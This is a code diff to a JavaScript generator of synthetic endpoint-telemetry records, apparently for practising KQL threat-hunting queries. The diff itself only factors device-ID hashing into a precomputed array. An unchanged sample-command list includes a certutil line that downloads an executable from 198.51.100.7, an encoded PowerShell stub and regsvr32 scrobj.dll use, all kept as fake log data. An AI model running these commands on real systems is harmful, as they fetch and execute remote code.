@@ -15,6 +15,7 @@ class KqlError extends Error {}
 
 const DAY = 24 * 3600 * 1000;
 const DEVICES = Array.from({ length: 40 }, (_, i) => `ws-${String(i + 1).padStart(3, '0')}.contoso.local`);
+const DEVICE_IDS = DEVICES.map((_, d) => hash32(d + 1).toString(16).padStart(8, '0') + 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6');
 const USERS = ['kai.carter', 'alex.wilber', 'megan.bowen', 'adele.vance', 'lee.gu', 'nestor.wilke', 'diego.siciliani', 'svc-backup'];
 const PROCS = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'svchost.exe', 'explorer.exe', 'chrome.exe', 'winword.exe', 'certutil.exe', 'msedge.exe', 'regsvr32.exe'];
 const CMDS = ['-enc SQBFAFgA', '/c whoami', 'shell32.dll,Control_RunDLL', '-k netsvcs', '', '--type=renderer', '/n report.docx', '-urlcache -f http://198.51.100.7/a.exe', '--profile-directory=Default', '/s scrobj.dll'];
@@ -73,7 +74,7 @@ const FACTORIES = {
 			const d = h(1) % DEVICES.length;
 			const f = pick(PROCS, h(2));
 			return {
-				Timestamp: '', DeviceId: hash32(d + 1).toString(16).padStart(8, '0') + 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6', DeviceName: DEVICES[d],
+				Timestamp: '', DeviceId: DEVICE_IDS[d], DeviceName: DEVICES[d],
 				ActionType: 'ProcessCreated', FileName: f, FolderPath: `C:\\Windows\\System32\\${f}`,
 				ProcessCommandLine: `${f} ${pick(CMDS, h(3))}`.trim(), AccountName: pick(USERS, h(4)), AccountDomain: 'contoso',
 				InitiatingProcessFileName: pick(PROCS, h(5)), ProcessId: 1000 + (h(6) % 60000), ReportId: i + 1,
@@ -92,7 +93,7 @@ const FACTORIES = {
 		(h, i) => {
 			const d = h(1) % DEVICES.length;
 			return {
-				Timestamp: '', DeviceId: hash32(d + 1).toString(16).padStart(8, '0') + 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6', DeviceName: DEVICES[d],
+				Timestamp: '', DeviceId: DEVICE_IDS[d], DeviceName: DEVICES[d],
 				ActionType: pick(['ConnectionSuccess', 'ConnectionFailed', 'InboundConnectionAccepted'], h(2)),
 				RemoteIP: `198.51.100.${h(3) % 254 + 1}`, RemotePort: [443, 80, 445, 3389, 53][h(4) % 5],
 				RemoteUrl: pick(URLS, h(5)), LocalIP: `10.0.${h(6) % 8}.${h(7) % 254 + 1}`, Protocol: pick(['Tcp', 'Udp'], h(8)),
